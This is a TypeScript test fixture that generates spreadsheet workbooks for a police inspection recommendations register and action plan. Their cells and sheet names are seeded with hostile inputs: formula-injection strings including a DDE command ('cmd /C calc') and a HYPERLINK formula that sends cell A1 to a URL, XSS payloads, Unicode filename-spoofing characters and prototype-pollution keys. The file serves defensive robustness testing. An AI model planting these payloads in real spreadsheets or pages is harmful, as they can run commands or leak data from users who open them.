import fc from "fast-check";
import type { Book, Scalar } from "../../workbench/file/book";
import { bookOf } from "../workbench/host/books";
import { FIRST_OF_JUNE } from "./plan-book";

/** As long as Excel lets a cell's text be. */
export const LONGEST = 32_767;

/** What a cell may hold that is meant to do harm, or does it by accident. */
export const HOSTILE: readonly string[] = [
  "=HYPERLINK(\"https://example.org/?\"&A1,\"Click\")", "=1+1", "+1+1", "-2+3", "@SUM(A1)", "=cmd|' /C calc'!A0", "\t=1+1", "\n=1+1", "'=1+1", "＝1+1",
  "<img src=x onerror=\"document.title='harmed'\">", "<script>document.title='harmed'</script>", "javascript:document.title='harmed'", "&lt;b&gt; &amp; ]]>", "%3Cscript%3E",
  "\u202Etxt.exe\u202C", "\u2066R1\u2069\u200F", "R\u200B1", "\uFEFFR1", "a\u0301\u0301\u0301\u0301", "👩‍👩‍👧‍👦 🏴󠁧󠁢󠁷󠁬󠁳󠁿", "_x0041_", "_x000D_",
  "__proto__", "constructor", "toString", "hasOwnProperty", "prototype", "valueOf", "null", "undefined", "NaN", "true", "[object Object]", "$&", "$1", "%s", "{{x}}", "${x}",
  "1e308", "-1e308", "99999999999", "0000-00-00", "31/02/2026", "30/02/0000", "9999-12-31", "#REF!", "#N/A", "R1; R2; R3; R4; R5; R6; R7; R8", "R1-R99999", ",", ";", "\"", "'", "\\", " ", "\u00A0", "\n\n\n",
  "x".repeat(LONGEST), "R1 ".repeat(10_922), "(".repeat(5_000), "1".repeat(400),
];

const hostile = fc.constantFrom(...HOSTILE);
const numbers = fc.constantFrom<Scalar>(-1, 0, 1e300, -1e300, 2_958_465, 2_958_466, -0.5, 1e-300, true, false);
const cell = (usual: readonly Scalar[]): fc.Arbitrary<Scalar> => fc.oneof({ weight: 3, arbitrary: fc.constantFrom(...usual, null) }, { weight: 3, arbitrary: hostile }, { weight: 1, arbitrary: numbers });

const REGISTER = ["Ref", "Report", "Date Inspection Published", "Recommendation", "Directed at", "HMICFRS Deadline", "Level", "Exec Lead"];
const PLAN = ["Rec Ref", "Action No", "Action", "Delivery Lead", "Start Date", "Target Date", "% complete", "Status", "RAG", "Evidence", "Last Update", "Progress Update"];
const DAYS = [FIRST_OF_JUNE - 300, FIRST_OF_JUNE - 5, FIRST_OF_JUNE + 60];

const recommendation = fc.tuple(cell(["R1", "R2"]), cell(["Custody"]), cell(DAYS), cell(["Chief constables should review detention times"]), cell(["Chief constables", "College of Policing"]), cell(DAYS), cell([1, 2]), cell(["ACC Crime"]));
const action = fc.tuple(
  cell(["R1", "R2"]), cell(["A1", "A2"]), cell(["Train the staff"]), cell(["Head of Custody"]), cell(DAYS), cell(DAYS), cell([0, 0.4, 1]), cell(["In progress", "Complete", "Closed"]), cell(["Red", "Green"]), cell(["Folder 1"]), cell(DAYS), cell(["Done last week"]),
);
/** Columns that are nobody's, under whatever heading. */
const stranger = fc.tuple(hostile, hostile);

/** A register and a plan in which any cell may hold something of that kind, beside a sheet and a column with such names. */
export const hostilePlans: fc.Arbitrary<() => Book> = fc
  .record({ recommendations: fc.array(recommendation, { minLength: 1, maxLength: 4 }), actions: fc.array(action, { minLength: 3, maxLength: 8 }), strangers: fc.array(stranger, { maxLength: 3 }) })
  .map(({ recommendations, actions, strangers }) => () => {
    const register: Scalar[][] = [REGISTER, ["R1", "Custody", FIRST_OF_JUNE - 300, "Chief constables should review", "Chief constables", FIRST_OF_JUNE + 20, 2, null], ...recommendations];
    const first: Scalar[] = ["R1", "A0", "Begin", "Head of Custody", FIRST_OF_JUNE - 200, "13/11/2026", 0.2, "In progres", "Green", null, FIRST_OF_JUNE - 5, null];
    const plan: Scalar[][] = [[...PLAN, ...strangers.map(([heading]) => heading)], [...first, ...strangers.map(([, value]) => value)], ...actions];
    return bookOf([{ name: "Register", values: register }, { name: "Plan", values: plan }, { name: "<img src=x onerror=harm()>", values: HOSTILE.slice(0, 30).map((text) => [text]) }, { name: "__proto__", values: [["constructor"]] }]);
  });

/** One workbook with all of it in every column that is read, and in headings of nobody's. */
export function hostileBook(): Book {
  const at = (index: number): string => HOSTILE[index % HOSTILE.length] ?? "";
  const register = HOSTILE.map((text, row) => [row < 3 ? `R${row + 1}` : text, at(row + 1), FIRST_OF_JUNE - 300, at(row + 2), "Chief constables", row % 2 === 0 ? FIRST_OF_JUNE - 20 : at(row + 3), at(row + 4), at(row + 5)]);
  const plan = HOSTILE.map((text, row) => [text, at(row + 7), at(row + 1), at(row + 2), row % 3 === 0 ? at(row + 3) : FIRST_OF_JUNE - 90, FIRST_OF_JUNE - 5, row % 2 === 0 ? at(row + 4) : 0.4, row % 2 === 0 ? at(row + 5) : "In progress", row % 2 === 0 ? at(row + 6) : "Green", at(row + 8), FIRST_OF_JUNE - 5, at(row + 9)]);
  return bookOf([{ name: "Register", values: [REGISTER, ...register] }, { name: "<img src=x onerror=harm()>", values: [[...PLAN, ...HOSTILE.slice(0, 12)], ...plan] }, { name: "__proto__", values: [["constructor"]] }]);
}
